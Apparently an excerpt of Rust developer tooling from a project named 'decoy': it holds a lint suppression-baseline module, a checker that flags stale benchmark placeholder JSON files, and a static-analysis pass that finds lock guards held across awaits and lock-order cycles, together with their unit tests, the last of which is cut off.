            .filter(|((_, rule, _), _)| rule.starts_with("alloc-"))
            .map(|(_, count)| count)
            .sum()
    }

    /// Serialize in the format [`Baseline::parse`] reads: sorted, one entry
    /// per line, stable across regenerations. The `alloc_budget` field is
    /// informational (recomputed from entries on parse) but keeps the
    /// hot-path allocation budget visible in diffs.
    pub fn render(&self) -> String {
        let mut sorted: Vec<(&(String, String, String), &usize)> = self.entries.iter().collect();
        sorted.sort();
        let mut out = String::from("{\n  \"comment\": \"decoy-xtask analyze suppression baseline; regenerate with `cargo run -p decoy-xtask -- analyze --write-baseline` and review the diff\",\n");
        out.push_str(&format!(
            "  \"alloc_budget\": {},\n  \"entries\": [\n",
            self.alloc_budget()
        ));
        for (i, ((file, rule, key), count)) in sorted.iter().enumerate() {
            out.push_str(&format!(
                "    {{\"file\":\"{}\",\"rule\":\"{}\",\"key\":\"{}\",\"count\":{}}}{}\n",
                json_escape(file),
                json_escape(rule),
                json_escape(key),
                count,
                if i + 1 < sorted.len() { "," } else { "" }
            ));
        }
        out.push_str("  ]\n}\n");
        out
    }

    /// Build a baseline that suppresses exactly `findings` (keyed by the
    /// trimmed text of each finding's line).
    pub fn from_findings<'a>(
        findings: impl IntoIterator<Item = (&'a Finding, &'a str)>,
    ) -> Baseline {
        let mut entries = HashMap::new();
        for (f, key) in findings {
            *entries
                .entry((f.file.clone(), f.rule.to_string(), key.to_string()))
                .or_insert(0) += 1;
        }
        Baseline { entries }
    }

    /// Split `findings` into (fresh, suppressed_count, stale_entry_count).
    ///
    /// Each finding consumes one unit of its `(file, rule, key)` budget;
    /// findings beyond the budget — and findings with no entry at all — are
    /// fresh. Budget left over after all findings are matched counts as
    /// stale entries (code was fixed; the baseline should be regenerated).
    pub fn apply(
        &self,
        findings: Vec<Finding>,
        key_of: impl Fn(&Finding) -> String,
    ) -> (Vec<Finding>, usize, usize) {
        let mut budget: HashMap<(String, String, String), usize> = self.entries.clone();
        let mut fresh = Vec::new();
        let mut suppressed = 0usize;
        for f in findings {
            let k = (f.file.clone(), f.rule.to_string(), key_of(&f));
            match budget.get_mut(&k) {
                Some(n) if *n > 0 => {
                    *n -= 1;
                    suppressed += 1;
                }
                _ => fresh.push(f),
            }
        }
        let stale: usize = budget.values().sum();
        (fresh, suppressed, stale)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(file: &str, rule: &'static str, line: usize) -> Finding {
        Finding {
            file: file.into(),
            line,
            col: 1,
            rule,
            pass: "alloc",
            message: "m".into(),
        }
    }

    #[test]
    fn json_report_is_well_formed() {
        let f = Finding {
            file: "a \"b\".rs".into(),
            line: 3,
            col: 9,
            rule: "unwrap",
            pass: "lint",
            message: "bad\nthing".into(),
        };
        let j = report_json(&[f], 2, 1);
        assert!(j.contains("\"file\":\"a \\\"b\\\".rs\""));
        assert!(j.contains("\"line\":3"));
        assert!(j.contains("\"pass\":\"lint\""));
        assert!(j.contains("\\nthing"));
        assert!(j.contains("\"suppressed_by_baseline\":2"));
        assert!(j.ends_with("\"stale_baseline_entries\":1}"));
        assert_eq!(
            report_json(&[], 0, 0),
            "{\"findings\":[],\"count\":0,\"suppressed_by_baseline\":0,\"stale_baseline_entries\":0}"
        );
    }

    #[test]
    fn allows_accept_new_rule_names() {
        let src = "x.lock(); // decoy-lint: allow(lock-order) -- address-ordered acquisition";
        let (map, bad) = parse_allows("t.rs", src);
        assert!(bad.is_empty());
        assert_eq!(map.get(&1).map(Vec::len), Some(1));
        let src = "y(); // decoy-lint: allow(alloc-clone) -- cold path";
        let (map, bad) = parse_allows("t.rs", src);
        assert!(bad.is_empty());
        assert!(map.get(&1).is_some());
    }

    #[test]
    fn allows_reject_unknown_rules_and_missing_reasons() {
        let (_, bad) = parse_allows("t.rs", "// decoy-lint: allow(everything) -- because");
        assert_eq!(bad.len(), 1);
        let (_, bad) = parse_allows("t.rs", "// decoy-lint: allow(unwrap)");
        assert_eq!(bad.len(), 1);
    }

    #[test]
    fn baseline_roundtrip_and_budget() {
        let f1 = finding("a.rs", "alloc-clone", 5);
        let f2 = finding("a.rs", "alloc-clone", 9);
        let b = Baseline::from_findings([(&f1, "x.clone();"), (&f2, "x.clone();")]);
        let rendered = b.render();
        let parsed = Baseline::parse(&rendered).unwrap();
        assert_eq!(parsed, b);
        assert_eq!(
            parsed
                .entries
                .get(&("a.rs".into(), "alloc-clone".into(), "x.clone();".into())),
            Some(&2)
        );
        // two findings fit the budget; a third is fresh
        let three = vec![f1.clone(), f2.clone(), finding("a.rs", "alloc-clone", 12)];
        let (fresh, suppressed, stale) = parsed.apply(three, |_| "x.clone();".to_string());
        assert_eq!((fresh.len(), suppressed, stale), (1, 2, 0));
        // only one finding: one stale unit left over
        let (fresh, suppressed, stale) = parsed.apply(vec![f1], |_| "x.clone();".to_string());
        assert_eq!((fresh.len(), suppressed, stale), (0, 1, 1));
    }

    #[test]
    fn alloc_budget_counts_only_alloc_rules() {
        let f1 = finding("a.rs", "alloc-clone", 5);
        let f2 = finding("a.rs", "alloc-vec", 6);
        let f3 = finding("b.rs", "unwrap", 7);
        let b = Baseline::from_findings([(&f1, "k1"), (&f2, "k2"), (&f3, "k3")]);
        assert_eq!(b.alloc_budget(), 2);
        // the rendered field is informational; parse recomputes from entries
        let rendered = b.render();
        assert!(rendered.contains("\"alloc_budget\": 2"));
        assert_eq!(Baseline::parse(&rendered).unwrap().alloc_budget(), 2);
    }

    #[test]
    fn baseline_empty_parse() {
        let b = Baseline::parse("{\n  \"entries\": [\n  ]\n}\n").unwrap();
        assert!(b.entries.is_empty());
        assert_eq!(Baseline::parse(""), Ok(Baseline::default()));
    }

    #[test]
    fn source_file_context() {
        let sf = SourceFile::new(
            "t.rs",
            "fn f() { x.unwrap(); } // decoy-lint: allow(unwrap) -- invariant\n#[cfg(test)]\nmod t { fn g() {} }\n",
        );
        assert!(sf.allowed(1, "unwrap"));
        assert!(!sf.allowed(1, "panic"));
        assert!(sf.line_key(1).starts_with("fn f()"));
        assert_eq!(sf.fns.len(), 2);
        assert!(!sf.in_test[0]);
        assert!(sf.in_test[2]);
    }
}
