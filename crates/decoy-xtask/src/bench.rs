//! Bench-freshness pass: committed `BENCH_*.json` placeholders must not
//! outlive their grace period.
//!
//! Every bench landed so far was authored in an offline container, so the
//! JSON carries `"median_ms": null` placeholders (throughput benches such
//! as `BENCH_wire.json` use `"sessions_per_sec": null`) plus a
//! `placeholder_since` field naming the PR that introduced them
//! (`"placeholder_since": "PR 6"`). The current PR number is derived from
//! `CHANGES.md` — one non-empty line is appended per PR, so the line count
//! *is* the PR ordinal. The rules:
//!
//! | rule | fires when |
//! |---|---|
//! | `bench-stale` | a file still has a null metric more than one PR after `placeholder_since` |
//! | `bench-missing-since` | a file has a null metric but no `placeholder_since` |
//!
//! One PR of grace means a placeholder may be *introduced* offline, but the
//! very next PR must either populate the numbers (networked machine) or
//! consciously re-baseline. JSON has no comments, so the only escape hatch
//! is the suppression baseline — which is the point: going stale must be a
//! reviewed decision, not a default.

use crate::diag::Finding;

/// The current PR ordinal: one non-empty line is appended to `CHANGES.md`
/// per PR.
pub fn current_pr(changes: &str) -> usize {
    changes.lines().filter(|l| !l.trim().is_empty()).count()
}

/// Parse `"placeholder_since": "PR <n>"` out of a bench JSON, with the
/// 1-based line it sits on.
fn placeholder_since(src: &str) -> Option<(usize, usize)> {
    for (idx, line) in src.lines().enumerate() {
        let Some(pos) = line.find("\"placeholder_since\"") else {
            continue;
        };
        let after = line.get(pos..)?.split_once(':')?.1;
        let val = after.split('"').nth(1)?;
        let n = val
            .trim()
            .strip_prefix("PR")?
            .trim()
            .parse::<usize>()
            .ok()?;
        return Some((n, idx + 1));
    }
    None
}

/// Metric keys whose `null` value marks a bench as placeholder-only.
/// `median_ms` is the criterion benches' metric; `sessions_per_sec` is the
/// wire load harness's (`BENCH_wire.json`).
const PLACEHOLDER_KEYS: [&str; 2] = ["\"median_ms\"", "\"sessions_per_sec\""];

/// 1-based line of the first null placeholder metric in a bench JSON.
fn first_null_median(src: &str) -> Option<usize> {
    for (idx, line) in src.lines().enumerate() {
        for key in PLACEHOLDER_KEYS {
            if let Some(pos) = line.find(key) {
                let after = line.get(pos..).unwrap_or_default();
                if after
                    .split_once(':')
                    .is_some_and(|(_, v)| v.trim_start().starts_with("null"))
                {
                    return Some(idx + 1);
                }
            }
        }
    }
    None
}

/// Check bench placeholder freshness. `files` are `(workspace-relative
/// path, content)` pairs for every `BENCH_*.json`; `current` is the PR
/// ordinal from [`current_pr`].
pub fn check(files: &[(String, String)], current: usize) -> Vec<Finding> {
    let mut findings = Vec::new();
    for (rel, src) in files {
        let Some(null_line) = first_null_median(src) else {
            continue; // numbers are populated — fresh by definition
        };
        match placeholder_since(src) {
            None => findings.push(Finding {
                file: rel.clone(),
                line: null_line,
                col: 1,
                rule: "bench-missing-since",
                pass: "bench",
                message: "median_ms is null but there is no placeholder_since field; add \
                          `\"placeholder_since\": \"PR <n>\"` so staleness can be tracked"
                    .to_string(),
            }),
            Some((since, since_line)) if current > since + 1 => findings.push(Finding {
                file: rel.clone(),
                line: since_line,
                col: 1,
                rule: "bench-stale",
                pass: "bench",
                message: format!(
                    "bench placeholder is stale: median_ms has been null since PR {since} \
                     and this is PR {current} (grace is one PR); run the bench on a \
                     networked machine and populate the numbers"
                ),
            }),
            Some(_) => {}
        }
    }
    findings
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bench_json(median: &str, since: Option<&str>) -> String {
        let since_field = since
            .map(|s| format!("  \"placeholder_since\": \"{s}\",\n"))
            .unwrap_or_default();
        format!(
            "{{\n  \"bench\": \"x\",\n{since_field}  \"targets\": {{\n    \"a\": {{\"median_ms\": {median}}}\n  }}\n}}\n"
        )
    }

    fn run(median: &str, since: Option<&str>, current: usize) -> Vec<&'static str> {
        let files = vec![("BENCH_x.json".to_string(), bench_json(median, since))];
        check(&files, current).into_iter().map(|f| f.rule).collect()
    }

    #[test]
    fn current_pr_counts_nonempty_lines() {
        assert_eq!(current_pr("- one\n- two\n\n- three\n"), 3);
        assert_eq!(current_pr(""), 0);
    }

    #[test]
    fn populated_benches_are_always_fresh() {
        assert!(run("12.5", Some("PR 1"), 9).is_empty());
        assert!(run("0.004", None, 9).is_empty());
    }

    #[test]
    fn null_median_within_grace_is_fine() {
        assert!(run("null", Some("PR 6"), 6).is_empty());
        assert!(run("null", Some("PR 6"), 7).is_empty());
    }

    #[test]
    fn null_median_past_grace_is_stale() {
        assert_eq!(run("null", Some("PR 6"), 8), vec!["bench-stale"]);
        assert_eq!(run("null", Some("PR 2"), 9), vec!["bench-stale"]);
    }

    #[test]
    fn null_median_without_since_is_flagged() {
        assert_eq!(run("null", None, 3), vec!["bench-missing-since"]);
    }

    #[test]
    fn sessions_per_sec_null_is_a_placeholder_too() {
        let wire = "{\n  \"bench\": \"wire_load\",\n  \"placeholder_since\": \"PR 2\",\n  \
                    \"targets\": {\n    \"pgwire\": {\"sessions_per_sec\": null}\n  }\n}\n";
        let files = vec![("BENCH_wire.json".to_string(), wire.to_string())];
        let rules: Vec<_> = check(&files, 9).into_iter().map(|f| f.rule).collect();
        assert_eq!(rules, vec!["bench-stale"]);
        let fresh = wire.replace("null", "812.4");
        let files = vec![("BENCH_wire.json".to_string(), fresh)];
        assert!(check(&files, 9).is_empty());
    }

    #[test]
    fn finding_points_at_a_real_line() {
        let files = vec![("BENCH_x.json".to_string(), bench_json("null", Some("PR 1")))];
        let f = check(&files, 9);
        assert_eq!(f.len(), 1);
        let src = &files[0].1;
        let line = src.lines().nth(f[0].line - 1).unwrap();
        assert!(line.contains("placeholder_since"));
    }
}
