//! Lock-discipline pass: guards held across `.await` and inter-function
//! lock-order cycles (deadlock candidates).
//!
//! Works on the shared token model, so it is an approximation with known
//! blind spots (macro-hidden awaits, trait dispatch), but the serving
//! stack's locking idioms — `parking_lot` guards in `decoy-net` and
//! `decoy-store` — are all directly visible to it:
//!
//! * **Acquisition sites** are `.lock()` / `.read()` / `.write()` calls
//!   with *no arguments* (IO `read(&mut buf)` / `write(buf)` never match).
//! * **Guard extents**: a `let g = x.lock();` binding (optionally via
//!   `.unwrap()`/`.expect(..)` for `std::sync` locks) lives to the end of
//!   its enclosing block or an explicit `drop(g)`; anything else is a
//!   temporary living to the end of its statement (brace-aware, so `match
//!   x.lock() { .. }` scrutinees cover the whole match).
//! * **`lock-await`**: a `.await` inside a guard's extent.
//! * **`lock-order`**: within a function, guard A alive when B is acquired
//!   adds the edge A→B; a call to a known function while A is alive adds
//!   A→L for every lock L that function may (transitively) acquire — but
//!   only unambiguous call shapes propagate (see [`is_propagated_call`]:
//!   bare calls, `self.` methods, `*_locked` methods). Cycles
//!   in the resulting graph — including self-loops, i.e. re-acquiring a
//!   lock you may already hold — are deadlock candidates.
//!
//! Lock identity is textual: the last identifier of the receiver chain,
//! qualified by file stem (`events:inner`, `supervisor:slots`). Two locks
//! with one name in one file merge; the same field reached through
//! different bindings (`self.inner` / `other.inner`) also merges — which is
//! exactly what catches caller-determined acquisition order on two
//! instances of the same structure.
//!
//! Escape hatch: `// decoy-lint: allow(lock-await|lock-order) -- <reason>`
//! on (or above) the acquisition line.

use std::collections::{BTreeMap, BTreeSet, HashMap};

use crate::diag::{Finding, SourceFile};
use crate::tok::{enclosing_fn, TokKind};

/// One lock acquisition with its computed guard extent.
#[derive(Debug, Clone)]
struct Acq {
    /// Token index of the method name (`lock`/`read`/`write`).
    tok: usize,
    line: usize,
    col: usize,
    /// Full receiver text, for messages (`self.inner`).
    recv: String,
    /// Canonical node: `<file stem>:<last receiver ident>`.
    node: String,
    /// Method name, for messages.
    method: String,
    /// Guard liveness as a token-index range `(start, end)`, exclusive end.
    extent: (usize, usize),
}

/// A lock-order edge: `from` is held while `to` is acquired.
#[derive(Debug, Clone)]
struct Edge {
    from: String,
    to: String,
    /// Where the edge was observed, for the report.
    site: String,
    /// Acquisition line (for allow-comment lookups already applied).
    sort_key: (String, usize, usize),
}

/// Per-file facts handed to the cross-file analysis.
struct FileFacts {
    acqs: Vec<Acq>,
    /// fn index (into `sf.fns`) → acquisitions inside it.
    by_fn: HashMap<usize, Vec<usize>>,
    /// fn name → (direct nodes, callee names) — merged across files later.
    fn_summaries: Vec<(String, BTreeSet<String>, BTreeSet<String>)>,
}

const LOCK_METHODS: [&str; 3] = ["lock", "read", "write"];

/// File stem (`events` from `crates/decoy-store/src/events.rs`).
fn stem(rel: &str) -> &str {
    rel.rsplit('/')
        .next()
        .unwrap_or(rel)
        .trim_end_matches(".rs")
}

/// Walk the receiver chain backwards from the `.` before the method name;
/// returns (full receiver text, last identifier).
fn receiver(sf: &SourceFile, dot: usize) -> (String, String) {
    let mut parts: Vec<String> = Vec::new();
    let mut k = dot; // index of the `.` token
    loop {
        let Some(prev) = k.checked_sub(1) else { break };
        match sf.toks.get(prev).map(|t| t.kind) {
            Some(TokKind::Ident) => {
                parts.push(sf.text(prev).to_string());
                // continue only through `a.b` chains
                let Some(pp) = prev.checked_sub(1) else {
                    break;
                };
                if sf.toks.get(pp).map(|t| t.kind) == Some(TokKind::Punct(b'.')) {
                    k = pp;
                    // the `.` itself; loop continues from before it
                    continue;
                }
                break;
            }
            Some(TokKind::Punct(b')')) => {
                // call-expression receiver: keep it opaque
                parts.push("<expr>".to_string());
                break;
            }
            _ => break,
        }
    }
    if parts.is_empty() {
        parts.push("<expr>".to_string());
    }
    let base = parts
        .iter()
        .find(|p| *p != "self" && *p != "<expr>")
        .cloned()
        .unwrap_or_else(|| parts.first().cloned().unwrap_or_default());
    parts.reverse();
    (parts.join("."), base)
}

/// Token index just *after* the end of the statement containing `from`
/// (brace-aware: a `match x.lock() { .. }` scrutinee extends over the
/// arms; the statement ends at `;` at depth 0, at the close of the
/// enclosing block, or after a depth-0 `}` not followed by a continuation).
fn stmt_extent_end(sf: &SourceFile, from: usize) -> usize {
    let mut depth = 0i64;
    let mut k = from;
    while let Some(t) = sf.toks.get(k) {
        match t.kind {
            TokKind::Punct(b'(' | b'[' | b'{') => depth += 1,
            TokKind::Punct(b')' | b']') => {
                if depth == 0 {
                    return k; // closing of an enclosing group
                }
                depth -= 1;
            }
            TokKind::Punct(b'}') => {
                if depth == 0 {
                    return k; // enclosing block closes
                }
                depth -= 1;
                if depth == 0 {
                    // a `{ .. }` belonging to this statement just closed
                    // (match / if-let scrutinee); continue only through
                    // chained continuations
                    match sf.toks.get(k + 1) {
                        Some(n)
                            if n.kind == TokKind::Punct(b'.')
                                || n.kind == TokKind::Punct(b'?')
                                || n.is_ident(&sf.stripped, "else") => {}
                        _ => return k + 1,
                    }
                }
            }
            TokKind::Punct(b';') if depth == 0 => return k + 1,
            _ => {}
        }
        k += 1;
    }
    sf.toks.len()
}

/// Token index just after the enclosing block of the statement containing
/// `from` closes (for `let`-bound guards), or after `drop(<name>)`.
fn block_extent_end(sf: &SourceFile, from: usize, name: &str) -> usize {
    let mut depth = 0i64;
    let mut k = from;
    while let Some(t) = sf.toks.get(k) {
        match t.kind {
            TokKind::Punct(b'{') => depth += 1,
            TokKind::Punct(b'}') => {
                depth -= 1;
                if depth < 0 {
                    return k;
                }
            }
            TokKind::Ident if t.text(&sf.stripped) == "drop" => {
                if sf.toks.get(k + 1).map(|t| t.kind) == Some(TokKind::Punct(b'('))
                    && sf.text(k + 2) == name
                    && sf.toks.get(k + 3).map(|t| t.kind) == Some(TokKind::Punct(b')'))
                {
                    return k;
                }
            }
            _ => {}
        }
        k += 1;
    }
    sf.toks.len()
}

/// If the statement containing the acquisition is `let [mut] g = <chain>;`
/// where the chain ends at the acquisition (modulo `.unwrap()` /
/// `.expect(..)`), return the guard's name.
fn named_guard(sf: &SourceFile, method_tok: usize) -> Option<String> {
    // statement start: token after the previous `;`, `{` or `}`
    let mut s = method_tok;
    while let Some(prev) = s.checked_sub(1) {
        match sf.toks.get(prev).map(|t| t.kind) {
            Some(TokKind::Punct(b';' | b'{' | b'}')) => break,
            _ => s = prev,
        }
    }
    if !sf
        .toks
        .get(s)
        .is_some_and(|t| t.is_ident(&sf.stripped, "let"))
    {
        return None;
    }
    let mut n = s + 1;
    if sf
        .toks
        .get(n)
        .is_some_and(|t| t.is_ident(&sf.stripped, "mut"))
    {
        n += 1;
    }
    let name_tok = sf.toks.get(n)?;
    if name_tok.kind != TokKind::Ident {
        return None;
    }
    if sf.toks.get(n + 1).map(|t| t.kind) != Some(TokKind::Punct(b'=')) {
        return None;
    }
    // tail after the acquisition's `()`: only `.unwrap()` / `.expect(..)`
    // hops, then `;`
    let mut k = method_tok + 3; // past `(` `)`
    loop {
        match sf.toks.get(k).map(|t| t.kind) {
            Some(TokKind::Punct(b';')) => return Some(name_tok.text(&sf.stripped).to_string()),
            Some(TokKind::Punct(b'.')) => {
                let hop = sf.text(k + 1);
                if hop != "unwrap" && hop != "expect" {
                    return None;
                }
                // skip the call's balanced parens
                if sf.toks.get(k + 2).map(|t| t.kind) != Some(TokKind::Punct(b'(')) {
                    return None;
                }
                let mut depth = 0i64;
                let mut j = k + 2;
                while let Some(t) = sf.toks.get(j) {
                    match t.kind {
                        TokKind::Punct(b'(') => depth += 1,
                        TokKind::Punct(b')') => {
                            depth -= 1;
                            if depth == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                    j += 1;
                }
                k = j + 1;
            }
            _ => return None,
        }
    }
}

/// True when the `Ident (` at token `k` is a call the inter-function
/// analysis should follow. Token-level name matching cannot resolve method
/// targets, and ubiquitous container-method names (`len`, `get`, `insert`,
/// `new`) collide with our own functions and produce phantom cycles, so
/// propagation is deliberately narrow:
///
/// * bare calls — `helper(g)` — always propagate;
/// * `self.method(..)` propagates (the receiver is the type under
///   analysis);
/// * `*_locked`-suffixed methods propagate on any receiver (the codebase's
///   naming convention for code that runs under a guard);
/// * path calls (`Type::new(..)`) and other-receiver method calls
///   (`map.insert(..)`, `list.len()`) are skipped — resolving them needs
///   types we don't have, and the false edges outnumber the real ones.
fn is_propagated_call(sf: &SourceFile, k: usize) -> bool {
    let Some(prev) = k.checked_sub(1).and_then(|p| sf.toks.get(p)) else {
        return true; // file starts with a call — bare by definition
    };
    match prev.kind {
        TokKind::Punct(b'.') => {
            if sf.text(k).ends_with("_locked") {
                return true;
            }
            // exactly `self.method(`: `self` directly before the dot, not
            // itself part of a longer chain
            k.checked_sub(2)
                .and_then(|p| sf.toks.get(p))
                .is_some_and(|t| t.is_ident(&sf.stripped, "self"))
                && k.checked_sub(3)
                    .and_then(|p| sf.toks.get(p))
                    .map(|t| t.kind != TokKind::Punct(b'.'))
                    .unwrap_or(true)
        }
        TokKind::Punct(b':') => false,
        _ => true,
    }
}

/// Collect acquisitions and function summaries for one file.
fn file_facts(sf: &SourceFile) -> FileFacts {
    let fstem = stem(&sf.rel);
    let mut acqs = Vec::new();
    for i in 0..sf.toks.len() {
        let Some(t) = sf.toks.get(i) else { continue };
        if t.kind != TokKind::Ident || !LOCK_METHODS.contains(&t.text(&sf.stripped)) {
            continue;
        }
        let prev_dot = i
            .checked_sub(1)
            .and_then(|p| sf.toks.get(p))
            .map(|p| p.kind == TokKind::Punct(b'.'))
            .unwrap_or(false);
        // empty argument list: `()` — IO read/write always take arguments
        let empty_call = sf.toks.get(i + 1).map(|t| t.kind) == Some(TokKind::Punct(b'('))
            && sf.toks.get(i + 2).map(|t| t.kind) == Some(TokKind::Punct(b')'));
        if !prev_dot || !empty_call || sf.in_test_at(i) {
            continue;
        }
        let (recv, base) = receiver(sf, i - 1);
        let extent = match named_guard(sf, i) {
            Some(name) => (i, block_extent_end(sf, i, &name)),
            None => (i, stmt_extent_end(sf, i)),
        };
        acqs.push(Acq {
            tok: i,
            line: t.line,
            col: t.col,
            recv,
            node: format!("{fstem}:{base}"),
            method: t.text(&sf.stripped).to_string(),
            extent,
        });
    }
    let mut by_fn: HashMap<usize, Vec<usize>> = HashMap::new();
    for (ai, a) in acqs.iter().enumerate() {
        if let Some(fi) = enclosing_fn(&sf.fns, a.tok) {
            by_fn.entry(fi).or_default().push(ai);
        }
    }
    // per-fn summaries: direct lock nodes + called function names
    let mut fn_summaries = Vec::new();
    for (fi, f) in sf.fns.iter().enumerate() {
        let Some((open, close)) = f.body else {
            continue;
        };
        let mut nodes = BTreeSet::new();
        for ai in by_fn.get(&fi).map(Vec::as_slice).unwrap_or_default() {
            if let Some(a) = acqs.get(*ai) {
                // only innermost attribution: skip if a nested fn owns it
                if enclosing_fn(&sf.fns, a.tok) == Some(fi) {
                    nodes.insert(a.node.clone());
                }
            }
        }
        let mut callees = BTreeSet::new();
        for k in open + 1..close {
            let Some(t) = sf.toks.get(k) else { continue };
            if t.kind == TokKind::Ident
                && sf.toks.get(k + 1).map(|t| t.kind) == Some(TokKind::Punct(b'('))
                && enclosing_fn(&sf.fns, k) == Some(fi)
                && is_propagated_call(sf, k)
            {
                callees.insert(t.text(&sf.stripped).to_string());
            }
        }
        fn_summaries.push((f.name.clone(), nodes, callees));
    }
    FileFacts {
        acqs,
        by_fn,
        fn_summaries,
    }
}

/// True when token `k` starts a `.await` (`.` then `await`).
fn is_await(sf: &SourceFile, k: usize) -> bool {
    sf.toks.get(k).map(|t| t.kind) == Some(TokKind::Punct(b'.'))
        && sf
            .toks
            .get(k + 1)
            .is_some_and(|t| t.is_ident(&sf.stripped, "await"))
}

/// Run the lock-discipline pass over `files` as one program.
pub fn check(files: &[&SourceFile]) -> Vec<Finding> {
    let mut findings = Vec::new();
    let facts: Vec<FileFacts> = files.iter().map(|sf| file_facts(sf)).collect();

    // ---- transitive may-acquire sets over the (name-merged) call graph
    let mut direct: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    let mut calls: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for ff in &facts {
        for (name, nodes, callees) in &ff.fn_summaries {
            direct
                .entry(name.clone())
                .or_default()
                .extend(nodes.iter().cloned());
            calls
                .entry(name.clone())
                .or_default()
                .extend(callees.iter().cloned());
        }
    }
    let mut closure: BTreeMap<String, BTreeSet<String>> = direct.clone();
    loop {
        let mut changed = false;
        let names: Vec<String> = closure.keys().cloned().collect();
        for name in &names {
            let mut add = BTreeSet::new();
            for callee in calls.get(name).into_iter().flatten() {
                if let Some(sub) = closure.get(callee) {
                    for n in sub {
                        add.insert(n.clone());
                    }
                }
            }
            if let Some(set) = closure.get_mut(name) {
                let before = set.len();
                set.extend(add);
                changed |= set.len() != before;
            }
        }
        if !changed {
            break;
        }
    }

    // ---- per-acquisition checks + edge collection
    let mut edges: Vec<Edge> = Vec::new();
    for (sf, ff) in files.iter().zip(&facts) {
        for a in &ff.acqs {
            // guard across .await
            let mut k = a.extent.0;
            while k < a.extent.1 {
                if is_await(sf, k) {
                    if !sf.allowed(a.line, "lock-await") {
                        let awline = sf.toks.get(k).map(|t| t.line).unwrap_or(a.line);
                        let fname = enclosing_fn(&sf.fns, a.tok)
                            .and_then(|fi| sf.fns.get(fi))
                            .map(|f| f.name.clone())
                            .unwrap_or_else(|| "?".to_string());
                        findings.push(Finding {
                            file: sf.rel.clone(),
                            line: a.line,
                            col: a.col,
                            rule: "lock-await",
                            pass: "locks",
                            message: format!(
                                "guard from `{}.{}()` (fn {fname}) is held across the \
                                 .await on line {awline}; drop it before awaiting",
                                a.recv, a.method
                            ),
                        });
                    }
                    break;
                }
                k += 1;
            }
        }
        // intra-function nesting edges
        for ais in ff.by_fn.values() {
            for &ai in ais {
                let Some(a) = ff.acqs.get(ai) else { continue };
                if sf.allowed(a.line, "lock-order") {
                    continue;
                }
                for &bi in ais {
                    if ai == bi {
                        continue;
                    }
                    let Some(b) = ff.acqs.get(bi) else { continue };
                    if b.tok > a.extent.0 && b.tok < a.extent.1 && !sf.allowed(b.line, "lock-order")
                    {
                        edges.push(Edge {
                            from: a.node.clone(),
                            to: b.node.clone(),
                            site: format!(
                                "{}:{} acquires `{}` while holding `{}` (line {})",
                                sf.rel, b.line, b.recv, a.recv, a.line
                            ),
                            sort_key: (sf.rel.clone(), b.line, b.col),
                        });
                    }
                }
            }
        }
        // inter-function edges: calls made while a guard is live
        for a in &ff.acqs {
            if sf.allowed(a.line, "lock-order") {
                continue;
            }
            let mut k = a.extent.0 + 3; // past `lock ( )`
            while k < a.extent.1 {
                let Some(t) = sf.toks.get(k) else { break };
                if t.kind == TokKind::Ident
                    && sf.toks.get(k + 1).map(|t| t.kind) == Some(TokKind::Punct(b'('))
                    && is_propagated_call(sf, k)
                {
                    let callee = t.text(&sf.stripped);
                    if !LOCK_METHODS.contains(&callee) {
                        if let Some(nodes) = closure.get(callee) {
                            for node in nodes {
                                edges.push(Edge {
                                    from: a.node.clone(),
                                    to: node.clone(),
                                    site: format!(
                                        "{}:{} calls {callee}() (acquires `{node}`) while \
                                         holding `{}` (line {})",
                                        sf.rel, t.line, a.recv, a.line
                                    ),
                                    sort_key: (sf.rel.clone(), t.line, t.col),
                                });
                            }
                        }
                    }
                }
                k += 1;
            }
        }
    }

    // ---- cycle detection over the edge set
    findings.extend(report_cycles(&edges));
    findings
        .sort_by(|x, y| (&x.file, x.line, x.col, x.rule).cmp(&(&y.file, y.line, y.col, y.rule)));
    findings
}

/// Find cycles (including self-loops) in the lock-order graph and render
/// one finding per distinct cycle.
fn report_cycles(edges: &[Edge]) -> Vec<Finding> {
    let mut adj: BTreeMap<&str, Vec<&Edge>> = BTreeMap::new();
    for e in edges {
        adj.entry(e.from.as_str()).or_default().push(e);
    }
    let mut seen_cycles: BTreeSet<Vec<String>> = BTreeSet::new();
    let mut findings = Vec::new();
    for start_edge in edges {
        // DFS from `to` back to `from` ⇒ cycle through this edge
        let target = start_edge.from.as_str();
        let mut stack: Vec<(&str, Vec<&Edge>)> = vec![(start_edge.to.as_str(), vec![start_edge])];
        let mut visited: BTreeSet<&str> = BTreeSet::new();
        let mut found: Option<Vec<&Edge>> = None;
        while let Some((node, path)) = stack.pop() {
            if node == target {
                found = Some(path);
                break;
            }
            if !visited.insert(node) {
                continue;
            }
            for e in adj.get(node).into_iter().flatten() {
                let mut p = path.clone();
                p.push(e);
                stack.push((e.to.as_str(), p));
            }
        }
        let Some(cycle) = found else { continue };
        // canonicalize: rotate node list to start at the smallest name
        let mut nodes: Vec<String> = cycle.iter().map(|e| e.from.clone()).collect();
        let min_pos = nodes
            .iter()
            .enumerate()
            .min_by_key(|(_, n)| n.as_str())
            .map(|(i, _)| i)
            .unwrap_or(0);
        nodes.rotate_left(min_pos);
        if !seen_cycles.insert(nodes.clone()) {
            continue;
        }
        let mut ring = nodes.clone();
        ring.push(nodes.first().cloned().unwrap_or_default());
        let sites: Vec<&str> = cycle.iter().map(|e| e.site.as_str()).collect();
        let at = cycle
            .iter()
            .map(|e| &e.sort_key)
            .min()
            .cloned()
            .unwrap_or_default();
        findings.push(Finding {
            file: at.0,
            line: at.1,
            col: at.2,
            rule: "lock-order",
            pass: "locks",
            message: format!(
                "lock-order cycle (deadlock candidate): {}; {}",
                ring.join(" -> "),
                sites.join("; ")
            ),
        });
    }
    findings
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(files: &[(&str, &str)]) -> Vec<Finding> {
        let sfs: Vec<SourceFile> = files
            .iter()
            .map(|(rel, src)| SourceFile::new(rel, src))
            .collect();
        let refs: Vec<&SourceFile> = sfs.iter().collect();
        check(&refs)
    }

    fn rules(files: &[(&str, &str)]) -> Vec<&'static str> {
        run(files).into_iter().map(|f| f.rule).collect()
    }

    #[test]
    fn guard_across_await_is_flagged() {
        let src = "async fn f(&self) {\n    let g = self.state.lock();\n    self.io.send().await;\n    g.touch();\n}\n";
        let f = run(&[("a.rs", src)]);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, "lock-await");
        assert_eq!(f[0].line, 2);
